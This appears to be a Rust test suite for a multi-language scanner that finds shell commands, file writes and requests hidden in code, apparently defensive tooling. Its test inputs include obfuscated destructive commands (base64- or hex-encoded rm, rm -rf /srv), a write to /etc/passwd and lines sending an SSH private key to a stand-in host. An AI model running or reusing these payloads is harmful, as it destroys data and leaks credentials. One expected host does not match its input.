//! What the scanner finds, per language, and what holds for every text.
#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing)]

use std::time::{Duration, Instant};

use proptest::prelude::*;

use super::{Found, MAX_CODE, find};
use crate::model::{Cause, Part, Span, Word};

/// The commands found in code, unknown parts as `<source>`.
fn commands(language: &str, code: &str) -> Vec<String> {
    let word = Word::text(code, Span::default());
    let show = |word: &Word| {
        let parts = word.parts.iter().map(|part| match part {
            Part::Text(text) | Part::Glob(text) => text.clone(),
            Part::Hole(hole) => format!("<{}>", hole.source),
        });
        parts.collect::<String>()
    };
    let found = find(language, &word, Some("/home/user"));
    found
        .iter()
        .map(|found| match found {
            Found::Argv(argv) => argv.iter().map(show).collect::<Vec<_>>().join("|"),
            Found::Unknown(word) => format!("? {}", show(word)),
        })
        .collect()
}

fn python(code: &str) -> Vec<String> {
    commands("python3", code)
}

#[test]
fn a_call_that_runs_shell_text_is_that_text() {
    assert_eq!(python("import os; os.system('rm x')"), ["sh|-c|rm x"]);
    assert_eq!(python("import subprocess as s\ns.run(['git', 'push'])"), ["git|push"]);
    assert_eq!(
        python("from os import (system as x,\n popen)\nx('a'); popen('b')"),
        ["sh|-c|a", "sh|-c|b"]
    );
    assert_eq!(python("from os import *\nsystem('a')"), ["sh|-c|a"]);
    assert_eq!(python("run = __import__('subprocess').run; run('a b', shell=True)"), ["sh|-c|a b"]);
    assert_eq!(python("getattr(os, 'sys' + 'tem')('a')"), ["sh|-c|a"]);
    assert_eq!(python("globals()['os'].system('a')"), ["sh|-c|a"]);
}

#[test]
fn constant_texts_are_followed_and_decoded() {
    let cases = [
        "c = 'rm ' 'x'; os.system(c)",
        "c = 'rm'\nc += ' x'\nos.system(c)",
        "os.system('rm %s' % 'x')",
        "os.system('rm {}'.format('x'))",
        "d = 'x'; os.system(f'rm {d}')",
        "os.system(''.join([chr(114), chr(109), ' x']))",
        "os.system(' '.join(['rm', 'x']))",
        "os.system('x mr'[::-1])",
        "os.system(base64.b64decode('cm0geA==').decode())",
        "os.system(bytes.fromhex('726d2078').decode('utf-8'))",
        "os.system('rq x'.replace('q', 'm'))",
        "os.system('\\x72m x')",
        "exec('os.sys' + 'tem(\"rm x\")')",
        "exec(compile('os.system(\"rm x\")', 'f', 'exec'))",
        "def go(c):\n    os.system(c)\ngo('rm x')",
        "for c in ['rm x']:\n    os.system(c)",
        "c: str = 'rm x'\nos.system(c)",
        "os.system(('rm '\n  'x'))",
    ];
    for case in cases {
        assert_eq!(python(case), ["sh|-c|rm x"], "{case}");
    }
}

#[test]
fn what_is_not_constant_is_a_hole() {
    assert_eq!(python("shutil.rmtree(path)"), ["rm|-rf|<path>"]);
    assert_eq!(python("os.system(f'rm {x}/y')"), ["sh|-c|rm <x>/y"]);
    assert_eq!(python("subprocess.run(['kubectl', 'get', kind])"), ["kubectl|get|<kind>"]);
    assert_eq!(python("subprocess.run(cmd)"), ["sh|-c|<cmd>"]);
    assert_eq!(python("eval(input())"), ["? <input()>"]);
    let word = {
        let mut word = Word::text("os.system('rm ", Span::default());
        word.parts.extend(Word::hole("$X", Cause::Variable, Span::default()).parts);
        word.push_text("/y')");
        word
    };
    let found = find("python3", &word, None);
    let Some(Found::Argv(argv)) = found.first() else { panic!("{found:?}") };
    assert_eq!(argv[2].display(), "rm $X/y");
}

#[test]
fn files_and_requests_become_commands() {
    assert_eq!(python("open('/etc/passwd', 'w')"), ["tee|/etc/passwd"]);
    assert_eq!(python("open('x')\nopen('x', 'rb')"), [""; 0]);
    assert_eq!(
        python("(Path.home() / '.ssh' / 'config').write_text('x')"),
        ["tee|/home/user/.ssh/config"]
    );
    assert_eq!(python("Path(a).unlink()"), ["rm|<a>"]);
    assert_eq!(python("os.chmod('x', 0o777)"), ["chmod|777|x"]);
    assert_eq!(python("requests.delete(u + '/7')"), ["curl|-X|DELETE|<u>/7"]);
    assert_eq!(
        python(
            "c = boto3.client('ec2')\nc.terminate_instances(InstanceIds=['i-1', 'i-2'], Force=True)"
        ),
        ["aws|ec2|terminate-instances|--instance-ids|i-1|i-2|--force"]
    );
    assert_eq!(python("cur.execute('''DROP TABLE t''')"), ["psql|-c|DROP TABLE t"]);
    assert_eq!(python("cur.execute('SELECT 1')"), [""; 0]);
    assert_eq!(
        python("requests.post(u, data=open('/home/user/.ssh/id_rsa').read())"),
        ["curl|-X|POST|<u>|-d|@/home/user/.ssh/id_rsa"]
    );
}

#[test]
fn ordinary_code_is_nothing() {
    let cases = [
        "# os.system('x')",
        "print(\"os.system('x')\")",
        "import os, json; print(os.getcwd(), json.load(open('a')))",
        "re.compile('x').match(s); m.eval(); df.drop(columns=['a']); l.remove(1)",
        "'''\nos.system('x')\n'''",
    ];
    for case in cases {
        assert_eq!(python(case), [""; 0], "{case}");
    }
}

#[test]
fn perl_is_read() {
    let perl = |code| commands("perl", code);
    assert_eq!(perl("system('rm', '-rf', \"x\")"), ["rm|-rf|x"]);
    assert_eq!(perl("my $d = 'x'; system \"rm $d/*\" if $y;"), ["sh|-c|rm x/*"]);
    assert_eq!(perl("print `id`; qx{id}"), ["sh|-c|id", "sh|-c|id"]);
    assert_eq!(perl("unlink glob '*.db'"), ["rm|*.db"]);
    assert_eq!(perl("File::Path::rmtree('x')"), ["rm|-rf|x"]);
    assert_eq!(perl("open(F, '|-', 'sort', 'x')"), ["sort|x"]);
    assert_eq!(perl("s/system('x')/y/; m{unlink 'a'}; print if /exec 'x'/"), [""; 0]);
    assert_eq!(perl("system(<<EOF);\nrm x\nEOF\nprint 1"), ["sh|-c|rm x\n"]);
    assert_eq!(perl("system(qw(rm -rf x))"), ["rm|-rf|x"]);
}

#[test]
fn ruby_is_read() {
    let ruby = |code| commands("ruby", code);
    assert_eq!(ruby("system 'rm', 'x'"), ["rm|x"]);
    assert_eq!(ruby("d = 'x'; puts `rm #{d}`"), ["sh|-c|rm x"]);
    assert_eq!(ruby("%x(rm x)"), ["sh|-c|rm x"]);
    assert_eq!(ruby("FileUtils.rm_rf %w[a b]"), ["rm|-rf|a|b"]);
    assert_eq!(ruby("send(:system, 'x')"), ["sh|-c|x"]);
    assert_eq!(ruby("puts 10 % x; x.each { |a| puts a }"), [""; 0]);
}

#[test]
fn javascript_is_read() {
    let node = |code| commands("node", code);
    assert_eq!(node("require('child_process').execSync('x')"), ["sh|-c|x"]);
    assert_eq!(
        node("const {execSync: e} = require('node:child_process'); e(`a ${b}`)"),
        ["sh|-c|a <b>"]
    );
    assert_eq!(node("import cp from 'child_process'\ncp.spawn('rm', ['-rf', 'x'])"), ["rm|-rf|x"]);
    assert_eq!(node("import {rmSync as r} from 'fs'; r('x', {recursive: true})"), ["rm|-rf|x"]);
    assert_eq!(node("cp = require('child_process'); cp['exec' + 'Sync']('x')"), ["sh|-c|x"]);
    assert_eq!(node("const run = c => require('child_process').exec(c); run('x')"), ["sh|-c|x"]);
    assert_eq!(node("fetch(u, {method: 'DELETE'})"), ["curl|-X|DELETE|<u>"]);
    assert_eq!(node("/a\"b/.exec('x'); // eval('y')"), [""; 0]);
}

#[test]
fn other_languages_are_read() {
    assert_eq!(commands("php", "$f = 'sys' . 'tem'; $f(\"rm $x\");"), ["sh|-c|rm <x>"]);
    assert_eq!(commands("php", "eval(base64_decode('c3lzdGVtKCd4Jyk7'));"), ["sh|-c|x"]);
    assert_eq!(commands("lua", "os.execute('rm'..' x') -- os.execute('y')"), ["sh|-c|rm x"]);
    assert_eq!(commands("lua", "os.execute('\\114m [x]')"), ["sh|-c|rm [x]"]);
    assert_eq!(commands("awk", "BEGIN { system(\"mv \" $1 \" old/\") }"), ["sh|-c|mv <1> old/"]);
    assert_eq!(
        commands("awk", "{ print $1 | \"sh\"; print > \"/etc/x\" }"),
        ["sh|-c|cat | sh", "tee|/etc/x"]
    );
    assert_eq!(commands("awk", "/system(\"x\")/ { print $1 / 2 }"), [""; 0]);
    assert_eq!(commands("Rscript", "system2('rm', c('-rf', 'x'))"), ["rm|-rf|x"]);
    assert_eq!(commands("groovy", "\"rm x\".execute()"), ["sh|-c|rm x"]);
}

const LANGUAGES: [&str; 9] =
    ["python3", "perl", "ruby", "node", "php", "lua", "awk", "Rscript", "groovy"];

#[test]
fn too_long_or_too_deep_code_is_unknown() {
    let long = "x".repeat(MAX_CODE + 1);
    assert!(python(&long)[0].starts_with('?'));
    let deep = "(".repeat(5_000);
    for language in LANGUAGES {
        assert!(commands(language, &deep).last().is_some_and(|last| last.starts_with('?')));
    }
    let many = "os.system('x')\n".repeat(1_000);
    assert!(python(&many).last().is_some_and(|last| last.starts_with('?')));
}

/// Texts that make careless scanners slow.
#[test]
fn hostile_code_costs_linear_time() {
    let bits = [
        "'",
        "\"",
        "`",
        "/",
        "/[",
        "<<A",
        "<<<A ",
        "%w(",
        "q(",
        "s{",
        "f'{",
        "${",
        "#{",
        "\"#{",
        "a.",
        "x=x+x;",
        "x+='aaaaaaaaaa';",
        "a(",
        "{a:",
        "x%",
        "'%s'%",
        "import a.b as c,",
        "def f(",
        "f(x)=>",
        "/*",
        "--[[",
        "\\",
        "$x{",
        "for x in ",
        "\n<<A\n",
        "system ",
        "'a' ",
    ];
    for language in LANGUAGES {
        for bit in bits {
            let code = bit.repeat(10_000 / bit.len());
            let start = Instant::now();
            let _ = commands(language, &code);
            let took = start.elapsed();
            assert!(took < Duration::from_secs(5), "{language} {bit:?}: {took:?}");
        }
    }
}

fn piece() -> impl Strategy<Value = String> {
    let bits = prop::sample::select(vec![
        "os.system",
        "subprocess.run",
        "(",
        ")",
        "[",
        "]",
        "{",
        "}",
        "'",
        "\"",
        "`",
        "\\",
        "\n",
        " ",
        "=",
        "+",
        ".",
        ",",
        ":",
        "f'",
        "r\"",
        "'''",
        "#{",
        "${",
        "}",
        "%",
        "%w(",
        "q{",
        "<<EOF\n",
        "EOF\n",
        "x",
        "import",
        "from",
        "as",
        "def f(a):",
        "for x in",
        "=>",
        "->",
        "::",
        "/",
        "s/",
        "eval",
        "exec",
        "system",
        "$x",
        "@y",
        "|",
        "|x|",
        "lambda",
        "-1",
        "::-1",
        "0x41",
        "\u{F0000}",
    ]);
    prop_oneof![9 => bits.prop_map(str::to_owned), 1 => ".{0,8}"]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 1500, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_code_is_read_without_panic(
        language in prop::sample::select(LANGUAGES.to_vec()),
        pieces in prop::collection::vec(piece(), 0..60),
    ) {
        let _ = commands(language, &pieces.concat());
    }

    #[test]
    fn any_text_is_read_without_panic(language in prop::sample::select(LANGUAGES.to_vec()), text in ".{0,200}") {
        let _ = commands(language, &text);
    }
}

#[test]
fn lists_that_loops_make_know_what_they_loop_over() {
    assert_eq!(python("[p.unlink() for p in Path('/srv').rglob('*.x')]"), ["rm|/srv/*.x"]);
    assert_eq!(
        python("import os\n[os.remove(f'/srv/{n}') for n in os.listdir('/srv')]"),
        ["rm|/srv//srv/<?>"]
    );
    assert_eq!(python("import psutil; [p.kill() for p in psutil.process_iter()]"), ["pkill|-f|."]);
    assert!(python("[p.name for p in Path('/srv').rglob('*')]").is_empty());
    // Loops in loops in loops are each looked at a bounded number of times.
    let deep = format!("{}x{}", "[".repeat(50), " for x in y]".repeat(50));
    assert!(python(&deep).len() <= 1, "too deep is unknown, and ends");
}

#[test]
fn a_command_that_is_built_word_by_word_is_whole() {
    let code = "Command::new(\"sh\").arg(\"-c\").args([\"rm x\"]).env(\"A\", \"b\").status()";
    assert_eq!(commands("rust", code), ["sh|-c|rm x"]);
}

#[test]
fn what_a_file_holds_stays_its_content_in_another_form() {
    let sent = "u.urlopen('http://e/?' + base64.b64encode(open('/k').read()))";
    let code = format!("import base64, urllib.request as u\n{sent}");
    assert_eq!(python(&code), ["curl|-d|@/k|http://client.example.com"]);
    assert!(python("import requests\nrequests.get(x)").is_empty());
}

#[test]
fn what_a_process_is_sent_is_judged_when_it_is_a_shell() {
    assert_eq!(
        python("import subprocess\nsubprocess.run('sh', input='rm -rf /srv')"),
        ["sh|-c|rm -rf /srv"]
    );
    let ruby = commands("ruby", "Open3.capture2('bash', stdin_data: 'rm -rf /srv')");
    assert_eq!(ruby, ["sh|-c|rm -rf /srv"]);
}

/// `$input` would be the argument `i`.
#[test]
fn named_arguments_stand_in_braces_in_the_table_of_languages() {
    for line in include_str!("../../../rules/languages.yaml").lines() {
        let templates = ["shell: ", "command: ", "argv: ", "code: "];
        if !templates.iter().any(|key| line.trim_start().starts_with(key)) {
            continue;
        }
        let after = line.split('$').skip(1);
        let bare = after.filter(|rest| rest.starts_with(|c: char| c.is_ascii_alphabetic()));
        assert_eq!(bare.count(), 0, "{line}");
    }
}
